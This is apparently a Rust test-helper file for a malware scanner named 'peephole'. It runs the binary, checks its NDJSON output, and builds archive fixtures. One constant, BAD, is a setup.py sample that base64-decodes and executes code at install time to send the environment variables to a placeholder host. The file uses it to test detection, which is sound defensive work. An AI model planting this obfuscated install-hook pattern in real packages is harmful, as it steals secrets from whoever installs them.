//! Runs the binary and reads what it says; builds the inputs that several tests share.

use std::ffi::OsString;
use std::io::{Cursor, Write as _};
use std::path::{Path, PathBuf};

use serde_json::Value;
use tempfile::TempDir;
use zip::write::SimpleFileOptions;

/// Code that decodes and executes a text at install time, and the text reads the environment and sends it to a host
/// that cannot exist. It is never run; the decoded text is `import os,urllib.request as u` and one request.
pub(crate) const BAD: &str = "import base64\nfrom setuptools import setup\n\
exec(__import__('base64').b64decode('aW1wb3J0IG9zLHVybGxpYi5yZXF1ZXN0IGFzIHUKdS51cmxvcGVuKCJodHRwczovL2NvbGxlY3Rvci5pbnZhbGlkL2kiLGRhdGE9cmVwcihkaWN0KG9zLmVudmlyb24pKS5lbmNvZGUoKSkK'))\n\
setup(name='inert')\n";

/// Code with nothing to say about.
pub(crate) const GOOD: &str = "def add(a, b):\n    return a + b\n";

/// What one call of the binary came to.
pub(crate) struct Run {
    pub(crate) code: i32,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
    pub(crate) records: Vec<Value>,
}

/// The binary with a clean environment.
pub(crate) fn peephole() -> assert_cmd::Command {
    let mut command = assert_cmd::Command::new(program());
    command
        .env_remove("NO_COLOR")
        .env_remove("CLICOLOR_FORCE")
        .env_remove("PEEPHOLE_FEED")
        .timeout(std::time::Duration::from_secs(560));
    command
}

/// Where the binary is.
pub(crate) fn program() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_peephole"))
}

/// Any call, without reading its output as records.
pub(crate) fn call<S: Into<OsString>>(arguments: impl IntoIterator<Item = S>) -> Run {
    run(peephole().args(arguments.into_iter().map(Into::into)))
}

/// Runs a prepared command.
pub(crate) fn run(command: &mut assert_cmd::Command) -> Run {
    let output = command.output().unwrap();
    let code = output.status.code().unwrap_or_else(|| panic!("ended by a signal: {output:?}"));
    Run {
        code,
        stdout: String::from_utf8(output.stdout).expect("output is UTF-8"),
        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
        records: Vec::new(),
    }
}

/// `peephole scan --format ndjson ARGUMENTS`, with the promises that every run keeps checked: one JSON object a line,
/// the run first, the summary last, and the counts of the summary are those of the records.
pub(crate) fn scan<S: Into<OsString>>(arguments: impl IntoIterator<Item = S>) -> Run {
    let mut command = peephole();
    command.args(["scan", "--format", "ndjson"]).args(arguments.into_iter().map(Into::into));
    records_of(run(&mut command))
}

/// Reads the records of a run and checks what every run promises.
pub(crate) fn records_of(mut run: Run) -> Run {
    run.records = run
        .stdout
        .lines()
        .map(|line| serde_json::from_str(line).unwrap_or_else(|e| panic!("not JSON ({e}): {line}")))
        .collect();
    let kinds: Vec<&str> = run.records.iter().map(|r| r["record"].as_str().unwrap()).collect();
    assert_eq!(kinds.first(), Some(&"run"), "{}", run.stderr);
    assert_eq!(kinds.last(), Some(&"summary"), "{}", run.stderr);
    assert_eq!(kinds.iter().filter(|k| **k != "artifact").count(), 2);
    assert!(run.records.iter().all(|r| r["schema"] == "peephole/1"));
    let artifacts = run.artifacts();
    let summary = run.summary();
    assert_eq!(summary["status"], "complete");
    assert_eq!(summary["artifacts"], artifacts.len());
    assert_eq!(summary["gaps"], artifacts.iter().map(|a| a["gaps"].as_array().unwrap().len()).sum::<usize>());
    for word in ["pass", "review", "block", "incomplete"] {
        assert_eq!(summary["verdicts"][word], artifacts.iter().filter(|a| a["verdict"] == word).count());
    }
    for artifact in &artifacts {
        for finding in artifact["findings"].as_array().unwrap() {
            assert!(!finding["evidence"].as_array().unwrap().is_empty(), "no evidence: {finding}");
        }
        if artifact["verdict"] == "pass" {
            assert!(artifact["gaps"].as_array().unwrap().is_empty(), "passes with gaps: {artifact}");
        }
    }
    run
}

impl Run {
    pub(crate) fn artifacts(&self) -> Vec<&Value> {
        self.records.iter().filter(|r| r["record"] == "artifact").collect()
    }

    pub(crate) fn summary(&self) -> &Value {
        self.records.last().unwrap()
    }

    /// The artifact whose path ends so.
    pub(crate) fn artifact(&self, end: &str) -> &Value {
        let found: Vec<&Value> =
            self.artifacts().into_iter().filter(|a| a["path"].as_str().unwrap().ends_with(end)).collect();
        assert_eq!(found.len(), 1, "one artifact ends with {end:?}: {}", self.stdout);
        found[0]
    }
}

/// The rules of an artifact's findings.
pub(crate) fn rules(artifact: &Value) -> Vec<&str> {
    artifact["findings"].as_array().unwrap().iter().map(|f| f["rule"].as_str().unwrap()).collect()
}

/// The reasons of an artifact's gaps, each once.
pub(crate) fn gaps(artifact: &Value) -> Vec<&str> {
    let mut reasons: Vec<&str> =
        artifact["gaps"].as_array().unwrap().iter().map(|g| g["reason"].as_str().unwrap()).collect();
    reasons.sort_unstable();
    reasons.dedup();
    reasons
}

/// Whether [`BAD`] was seen at a locator that contains `place`.
pub(crate) fn accuses(artifact: &Value, place: &str) -> bool {
    artifact["findings"].as_array().unwrap().iter().any(|f| {
        let heavy = f["severity"] == "high" || f["severity"] == "critical";
        heavy && f["technique"] == "exec/decode-exec" && f["locator"].as_str().unwrap().contains(place)
    })
}

/// A folder with files in it.
pub(crate) struct Folder(TempDir);

impl Folder {
    pub(crate) fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    pub(crate) fn path(&self) -> &Path {
        self.0.path()
    }

    pub(crate) fn at(&self, name: &str) -> PathBuf {
        self.path().join(name)
    }

    pub(crate) fn put(&self, name: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.at(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        path
    }
}

/// What came of a hostile file: alone, and beside a file that must still be found.
pub(crate) struct Examined {
    pub(crate) artifact: Value,
    /// Exit code when it is scanned alone.
    pub(crate) code: i32,
}

/// Scans a hostile file twice: in a folder with a bad neighbour, whose finding must be there whatever happens, and
/// alone, for the exit code.
pub(crate) fn examine(name: &str, bytes: &[u8]) -> Examined {
    examine_with(name, bytes, &[])
}

/// The same with further arguments.
pub(crate) fn examine_with(name: &str, bytes: &[u8], arguments: &[&str]) -> Examined {
    let folder = Folder::new();
    let path = folder.put(name, bytes);
    folder.put("neighbour/setup.py", BAD);
    let mut with: Vec<OsString> = arguments.iter().map(OsString::from).collect();
    with.push(folder.path().into());
    let beside = scan(with);
    let neighbour = beside.artifact("neighbour/setup.py");
    assert!(accuses(neighbour, "setup.py"), "the neighbour is lost: {neighbour}");
    assert!([1, 3, 4].contains(&beside.code), "exit code {} with a bad neighbour", beside.code);

    let mut with: Vec<OsString> = arguments.iter().map(OsString::from).collect();
    with.push(path.into());
    let alone = scan(with);
    assert_eq!(alone.artifacts().len(), 1, "{}", alone.stdout);
    let artifact = alone.artifacts()[0].clone();
    assert_eq!(gaps(&artifact), gaps(beside.artifact(name)), "a child process and this one say the same about {name}");
    Examined { artifact, code: alone.code }
}

impl Examined {
    /// Asserts the gap reasons, and that exit code and verdict follow from what was seen.
    pub(crate) fn has_gaps(&self, reasons: &[&str]) -> &Self {
        assert_eq!(gaps(&self.artifact), reasons, "{}", self.artifact);
        for gap in self.artifact["gaps"].as_array().unwrap() {
            assert!(gap["detail"].as_str().unwrap().len() >= 10, "a clear detail: {gap}");
        }
        let verdict = self.artifact["verdict"].as_str().unwrap();
        let expected = match (verdict, reasons.is_empty()) {
            ("block", _) => 1,
            (_, false) => 4,
            ("review", true) => 3,
            ("pass", true) => 0,
            other => panic!("{other:?}: {}", self.artifact),
        };
        assert_eq!(self.code, expected, "{}", self.artifact);
        self
    }

    /// Asserts that [`BAD`] was seen at a place.
    pub(crate) fn accuses(&self, place: &str) -> &Self {
        assert!(accuses(&self.artifact, place), "nothing at {place}: {}", self.artifact);
        self
    }
}

/// A zip of deflated entries.
pub(crate) fn zip_of<N: AsRef<str>, B: AsRef<[u8]>>(entries: impl IntoIterator<Item = (N, B)>) -> Vec<u8> {
    zip_with(SimpleFileOptions::default(), entries)
}

/// A zip of stored entries.
pub(crate) fn stored_zip_of<N: AsRef<str>, B: AsRef<[u8]>>(entries: impl IntoIterator<Item = (N, B)>) -> Vec<u8> {
    zip_with(SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored), entries)
}

fn zip_with<N: AsRef<str>, B: AsRef<[u8]>>(
    options: SimpleFileOptions,
    entries: impl IntoIterator<Item = (N, B)>,
) -> Vec<u8> {
    let mut writer = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in entries {
        writer.start_file(name.as_ref(), options).unwrap();
        writer.write_all(bytes.as_ref()).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

/// A tar of regular files.
pub(crate) fn tar_of<N: AsRef<str>, B: AsRef<[u8]>>(entries: impl IntoIterator<Item = (N, B)>) -> Vec<u8> {
    let mut builder = tar::Builder::new(Vec::new());
    for (name, bytes) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.as_ref().len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        builder.append_data(&mut header, name.as_ref(), bytes.as_ref()).unwrap();
    }
    builder.into_inner().unwrap()
}

/// A gzip of one member.
pub(crate) fn gzip_of(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// Bytes that do not compress, the same for the same seed.
pub(crate) fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed | 1;
    (0..len)
        .map(|_| {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 32) as u8
        })
        .collect()
}

/// Hex digits as bytes.
pub(crate) fn unhex(digits: &str) -> Vec<u8> {
    digits
        .as_bytes()
        .chunks(2)
        .map(|pair| u8::from_str_radix(std::str::from_utf8(pair).unwrap(), 16).unwrap())
        .collect()
}
